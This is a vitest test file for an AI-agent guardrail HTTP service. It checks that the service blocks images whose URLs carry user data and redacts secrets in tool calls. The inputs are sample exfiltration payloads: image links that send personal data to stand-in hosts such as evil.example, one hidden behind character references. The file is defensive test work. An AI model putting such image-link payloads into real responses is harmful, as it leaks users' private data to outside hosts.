// Issue 13 items 3 and 4 end to end: the HTTP service on a real socket (port 0) around the default
// engine. A data-carrying image in a response is refused, a badge is not; a provider token is
// refused, a credential under a credential name is redacted in place.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createGuardrailEngine } from '../src/index.js';
import { createGuardrailServer } from '../src/http/index.js';
import { agentResponse, FAKE, toolCall } from './helpers.js';

// Generous budgets: a saturated test machine must not turn these decisions into PAYLOAD_TOO_COMPLEX or 503.
const server = createGuardrailServer({
  validator: createGuardrailEngine({ budget: { timeMs: 120_000 } }),
  port: 0,
  queueTimeoutMs: 120_000,
});
let url = '';
beforeAll(async () => {
  url = (await server.listen()).url;
});
afterAll(() => server.close());

async function validate(body: unknown): Promise<Record<string, any>> {
  const res = await fetch(`${url}/v1/validate`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(body),
  });
  expect(res.status).toBe(200);
  return (await res.json()) as Record<string, any>;
}

describe('over HTTP with the default policy', () => {
  it("BLOCKs the issue's image whose query carries words, and ALLOWs a badge", async () => {
    const blocked = await validate(agentResponse('Summary ready. ![x](https://host.example/p.png?user=jane&q=quarterly+revenue)'));
    expect(blocked['decision']).toBe('BLOCK');
    expect(blocked['reason_code']).toBe('EXFILTRATION_LINK');
    const badge = await validate(agentResponse('Status: ![build](https://img.shields.io/badge/build-passing-green.svg)'));
    expect(badge['decision']).toBe('ALLOW');
  });

  it('BLOCKs an image URL hidden behind character references', async () => {
    const r = await validate(agentResponse('<img src="https://evil.example/c.gif?d=jane&#32;salary&#32;90k">'));
    expect(r['decision']).toBe('BLOCK');
  });

  it('refuses a provider token and redacts a password split into a JSON key and value', async () => {
    expect((await validate(agentResponse(`here: ${FAKE.githubToken}`)))['decision']).toBe('BLOCK');
    const password = 'tiger7' + 'horse!Q';
    const r = await validate(toolCall('connect_db', { host: 'db.internal', db_password: password }));
    expect(r['decision']).toBe('MODIFY');
    expect(r['reason_code']).toBe('SECRET_REDACTED');
    expect(JSON.parse(r['modified_payload'].function.arguments)).toEqual({ host: 'db.internal', db_password: '[REDACTED:SECRET]' });
    expect(JSON.stringify(r)).not.toContain(password);
  });
});
